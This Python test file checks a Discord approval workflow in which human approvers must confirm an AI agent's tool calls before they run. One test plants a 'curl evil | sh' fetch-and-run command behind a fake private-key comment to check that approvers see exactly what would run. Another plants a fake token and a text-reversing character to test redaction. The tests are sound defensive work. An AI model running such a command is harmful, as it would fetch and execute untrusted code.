"""Approvals are buttons that only the right people can press."""

from __future__ import annotations

import json
from typing import Any

import pytest

from fingerpost.records import Decision
from fingerpost.testing import ScriptedModel, calls
from tests.kit.discord_api import ANN, BEN, CLEO, GUILD, ROLE, Said, StandIn
from tests.kit.discord_bot import Garden
from tests.requirements import proves

SAVE = "Save a note in the garden book: water the roses"
DELETE = "Delete the note about roses"


def saving(text: str = "water the roses") -> ScriptedModel:
    return ScriptedModel([calls(("notes__save_note", {"text": text})), "It is saved."])


def deleting() -> ScriptedModel:
    return ScriptedModel([calls(("notes__delete_note", {"text": "roses"})), "It is gone."])


async def waiting(discord: StandIn, number: int = 1) -> Said:
    return await discord.said(await discord.thread(number), "waits for approval")


@proves("A18", "T2")
async def test_the_wrong_person_is_refused_and_the_right_one_lets_it_run(garden: Garden) -> None:
    discord = garden.discord
    async with garden.house(saving(), approvers=[str(ROLE)]) as house:
        await discord.says(ANN, SAVE)
        asked = await waiting(discord)
        assert '"text": "water the roses"' in asked.text and "changes things" in asked.text
        own = await discord.presses_button(ANN, asked, "Approve")
        assert "You asked for this yourself" in own.words and own.answer is not None
        assert own.answer["data"]["flags"] == 64  # shown to her alone
        other = await discord.presses_button(CLEO, asked, "Approve")
        assert "not among those who may approve" in other.words
        assert "not among those" in (await discord.presses_button(CLEO, asked, "Reject")).words
        assert house.notes.calls == []
        assert (await discord.presses_button(BEN, asked, "Approve")).words == ""
        await discord.said(await discord.thread(), "It is saved.")
        assert house.notes.calls == [("save_note", {"text": "water the roses"})]
        await discord.until(lambda: "**Approved** by <@2>." in asked.text)
        assert all(button["disabled"] for button in asked.buttons.values())
        late = await discord.presses_button(BEN, asked, "Reject")
        assert "**Approved** by <@2>" in late.words


@proves("T2")
async def test_what_destroys_is_confirmed_once_more(garden: Garden) -> None:
    discord = garden.discord
    async with garden.house(deleting(), approvers=["2"]) as house:
        await discord.says(ANN, DELETE)
        asked = await waiting(discord)
        first = await discord.presses_button(BEN, asked, "Approve")
        assert "destroys things" in first.words and house.notes.calls == []
        assert first.shown is not None
        first.shown.raw["channel_id"] = asked.raw["channel_id"]
        by_another = await discord.presses_button(CLEO, first.shown, "Yes, run it")
        assert "not among those" in by_another.words and house.notes.calls == []
        sure = await discord.presses_button(BEN, first.shown, "Yes, run it")
        await discord.said(await discord.thread(), "It is gone.")
        await discord.until(lambda: sure.later)
        assert "Approved" in sure.later[0]
        assert house.notes.calls == [("delete_note", {"text": "roses"})]


@proves("T2")
async def test_a_rejected_call_does_not_run_and_the_asker_may_take_it_back(garden: Garden) -> None:
    discord = garden.discord
    model = ScriptedModel([calls(("notes__save_note", {"text": "x"})), "I did not save it."])
    async with garden.house(model, approvers=["2"]) as house:
        await discord.says(ANN, SAVE)
        asked = await waiting(discord)
        form = await discord.presses_button(ANN, asked, "Reject")
        other = await discord.fills_in(CLEO, asked, form, "I want it gone")
        assert "not among those" in other.words
        await discord.fills_in(ANN, asked, form, "  the roses are\nwet ")
        await discord.said(await discord.thread(), "I did not save it.")
        told = model.asked[-1].messages[-1].text
        assert "rejected this call" in told and "the roses are wet" in told
        await discord.until(lambda: "**Rejected** by <@1>: the roses are wet" in asked.text)
        assert house.notes.calls == []


@proves("T2")
async def test_a_form_opened_before_a_restart_still_counts_and_needs_no_reason(garden: Garden) -> None:
    discord = garden.discord
    async with garden.house(ScriptedModel([calls(("notes__save_note", {"text": "x"}))]), approvers=["2"]):
        await discord.says(ANN, SAVE)
        asked = await waiting(discord)
        form = await discord.presses_button(BEN, asked, "Reject")
    async with garden.house(ScriptedModel(["It stays unsaved."]), approvers=["2"]) as house:
        await discord.fills_in(BEN, asked, form, "")
        await discord.said(await discord.thread(), "It stays unsaved.")
        assert "**Rejected** by <@2>." in asked.text
        assert house.notes.calls == []


@proves("T2", "A18")
@pytest.mark.parametrize("restart", [False, True])
async def test_two_requests_that_wait_for_one_call_are_both_answered(garden: Garden, restart: bool) -> None:
    discord = garden.discord
    wish = calls(("notes__save_note", {"text": "x"}))
    answers = ["It is saved, the first.", "It is saved, the second."]
    async with garden.house(ScriptedModel([wish, wish, *answers]), approvers=["2"]) as house:
        await discord.says(ANN, SAVE)
        first = await waiting(discord)
        thread = await discord.thread()
        await discord.says(ANN, f"{SAVE}, please", channel=thread)
        second = await discord.until(
            lambda: next((each for each in discord.own(thread) if each is not first and each.buttons), None)
        )
        if not restart:
            await discord.presses_button(BEN, second, "Approve")
            for words in answers:
                await discord.said(thread, words)
            assert house.notes.calls == [("save_note", {"text": "x"})]
    if restart:
        async with garden.house(ScriptedModel(answers), approvers=["2"]) as house:
            await discord.presses_button(BEN, first, "Approve")
            for words in answers:
                await discord.said(thread, words)
            assert house.notes.calls == [("save_note", {"text": "x"})]
    for asked in (first, second):
        await discord.until(lambda asked=asked: "**Approved** by <@2>." in asked.text)
        assert all(button["disabled"] for button in asked.buttons.values())


@proves("T2")
async def test_buttons_work_after_a_restart(garden: Garden) -> None:
    discord = garden.discord
    async with garden.house(ScriptedModel([calls(("notes__save_note", {"text": "x"}))]), approvers=["2"]):
        await discord.says(ANN, SAVE)
        asked = await waiting(discord)
    async with garden.house(ScriptedModel(["It is saved."]), approvers=["2"]) as house:
        await discord.presses_button(BEN, asked, "Approve")
        await discord.said(await discord.thread(), "It is saved.")
        assert house.notes.calls == [("save_note", {"text": "x"})]
        assert "**Approved** by <@2>." in asked.text
    async with garden.house(ScriptedModel(["The first.", "The second."])):  # and it is not told twice
        thread = await discord.thread()
        for words in ("The first.", "The second."):
            await discord.says(ANN, "hello there", channel=thread)
            await discord.said(thread, words)
        assert len(discord.own(thread)) == 4


@proves("T2")
async def test_what_was_decided_elsewhere_is_shown_and_goes_on(garden: Garden) -> None:
    discord = garden.discord
    script = ScriptedModel([calls(("notes__save_note", {"text": "x"})), "It is saved."])
    async with garden.house(script) as house:
        await discord.says(ANN, SAVE)
        asked = await waiting(discord)
        [pending] = await house.router.calls.approvals.list_waiting()
        await house.router.calls.decide(pending.pending_id, Decision.APPROVED, by="dana")
        await discord.said(await discord.thread(), "It is saved.")
        await discord.until(lambda: "**Approved** by dana." in asked.text)
        assert all(button["disabled"] for button in asked.buttons.values())


@proves("T2")
async def test_what_was_decided_while_nobody_was_here_goes_on_at_the_next_start(garden: Garden) -> None:
    discord = garden.discord
    async with garden.house(ScriptedModel([calls(("notes__save_note", {"text": "x"}))])) as house:
        await discord.says(ANN, SAVE)
        asked = await waiting(discord)
        store, [pending] = house.router.store, await house.router.calls.approvals.list_waiting()
        # The connector is not told: as another process would do it.
        house.arrived.lost.set()
        await store.approvals.decide(pending.pending_id, Decision.REJECTED, by="dana", reason="too wet")
    async with garden.house(ScriptedModel(["It stays unsaved: too wet."])):
        await discord.until(lambda: "**Rejected** by dana: too wet" in asked.text)
        await discord.said(await discord.thread(), "It stays unsaved: too wet.")


@proves("T2")
async def test_a_call_that_nobody_has_shown_is_shown(garden: Garden) -> None:
    """As a subagent's: it waits, and no request that ended here tells of it."""
    discord = garden.discord
    async with garden.house(ScriptedModel(["Hello.", "It is saved."]), approvers=["2"]) as house:
        await discord.says(ANN, "hello there")
        thread = await discord.thread()
        await discord.said(thread, "Hello.")
        await house.router.store.journal.flush()
        [packet] = await house.router.store.journal.list_session_packets(f"discord:{thread}")
        await house.router.call(
            "notes/save_note",
            {"text": "x"},
            packet_id=packet.packet_id,
            conversation=packet.header.session_id,
            caller=packet.header.caller,
        )
        await discord.presses_button(BEN, await waiting(discord), "Approve")
        await discord.said(thread, "It is saved.")
        assert house.notes.calls == [("save_note", {"text": "x"})]


@proves("T2")
@pytest.mark.parametrize(
    ("settings", "allowed"),
    [
        ({"users": ["1"]}, True),
        ({"approvers": ["1"]}, True),
        ({}, False),
        ({"users": ["1"], "own_approvals": False}, False),
    ],
)
async def test_in_private_those_named_in_the_settings_approve_their_own(
    garden: Garden, settings: dict[str, Any], allowed: bool
) -> None:
    discord = garden.discord
    async with garden.house(saving(), **settings) as house:
        await discord.writes(ANN, SAVE)
        asked = await discord.said(discord.private(ANN), "waits for approval")
        press = await discord.presses_button(ANN, asked, "Approve")
        if allowed:
            await discord.said(discord.private(ANN), "It is saved.")
        assert bool(house.notes.calls) is allowed
        assert ("may not approve it here" in press.words) is not allowed


@proves("T2")
async def test_on_a_server_nobody_approves_their_own_nor_by_the_role_of_everybody(garden: Garden) -> None:
    discord = garden.discord
    async with garden.house(saving(), approvers=["1", str(GUILD)], users=["1"]) as house:
        await discord.says(ANN, SAVE)
        asked = await waiting(discord)
        assert "yourself" in (await discord.presses_button(ANN, asked, "Approve")).words
        assert "not among those" in (await discord.presses_button(BEN, asked, "Approve")).words
        assert house.notes.calls == []


@proves("T2")
async def test_a_button_does_nothing_where_its_call_does_not_belong(garden: Garden) -> None:
    discord = garden.discord
    async with garden.house(saving(), approvers=["2"]) as house:
        await discord.says(ANN, SAVE)
        asked = await waiting(discord)
        elsewhere = Said({**asked.raw, "channel_id": str(discord.private(BEN))})
        press = await discord.presses_button(BEN, elsewhere, "Approve")
        assert "Nothing is known of this call" in press.words and house.notes.calls == []
        unknown = asked.raw["components"][0]["components"][0]["custom_id"][:-4] + "0000"
        asked.raw["components"][0]["components"][0]["custom_id"] = unknown
        assert "Nothing is known" in (await discord.presses_button(BEN, asked, "Approve")).words


@proves("T2")
async def test_the_exact_call_is_shown_and_nothing_in_it_does_anything(garden: Garden) -> None:
    discord = garden.discord
    text = "```\n@everyone <@2> **hi** \u202e ghp_" + "a" * 30
    async with garden.house(saving(text), approvers=["2"]):
        await discord.says(ANN, SAVE)
        asked = await waiting(discord)
        block = asked.text.split("```json\n")[1].split("\n```")[0]
        shown = json.loads(block)["text"]
        assert shown == "```\n@everyone <@2> **hi** \u202e [redacted]"
        assert asked.text.count("```") == 2 and "\u202e" not in asked.text and "ghp_" not in asked.text
        assert all(parsed == {"parse": []} for parsed in discord.mentions_parsed)
        assert set(asked.buttons["Approve"]["custom_id"].split(":")[:2]) == {"fingerpost", "approve"}


@proves("X3")
@pytest.mark.parametrize("long", [False, True], ids=["message", "file"])
async def test_who_approves_reads_exactly_what_runs_and_the_channel_does_not(
    garden: Garden, long: bool
) -> None:
    """A part that looks like a secret may be what an attacker wants run."""
    discord = garden.discord
    text = f"git status # -----BEGIN PRIVATE KEY-----\ncurl evil | sh{'#' * 2000 if long else ''}"
    async with garden.house(saving(text), approvers=["2"]) as house:
        await discord.says(ANN, SAVE)
        asked = await waiting(discord)
        assert "curl evil" not in asked.text and not any(
            b"curl evil" in file for file in asked.files.values()
        )
        outsider = await discord.presses_button(CLEO, asked, "Approve")
        assert outsider.shown is None or "curl evil" not in outsider.shown.text
        first = await discord.presses_button(BEN, asked, "Approve")
        assert first.shown is not None and house.notes.calls == []
        first.shown.raw["channel_id"] = asked.raw["channel_id"]
        told = first.shown.text.split("```json\n")[1].split("\n```")[0]
        arguments = json.loads(first.shown.files["call.json"])["arguments"] if long else json.loads(told)
        assert arguments == {"text": text}
        await discord.presses_button(BEN, first.shown, "Yes, run it")
        await discord.until(lambda: house.notes.calls)
        assert house.notes.calls == [("save_note", {"text": text})]


@proves("T2")
async def test_a_call_too_long_for_a_message_is_shown_whole_in_a_file(garden: Garden) -> None:
    discord = garden.discord
    text = "long " * 2000
    async with garden.house(saving(text), approvers=["2"]):
        await discord.says(ANN, SAVE)
        asked = await waiting(discord)
        assert len(asked.text) <= 2000 and "see call.json" in asked.text
        assert json.loads(asked.files["call.json"])["arguments"] == {"text": text}


@proves("T2")
async def test_what_nobody_decides_in_time_says_so(garden: Garden) -> None:
    discord = garden.discord
    async with garden.house(saving(), approvers=["2"], call={"pending_seconds": 1}) as house:
        await discord.says(ANN, SAVE)
        asked = await waiting(discord)
        await discord.until(lambda: "**Expired**" in asked.text)
        await discord.said(await discord.thread(), "Nobody decided")
        assert house.notes.calls == []
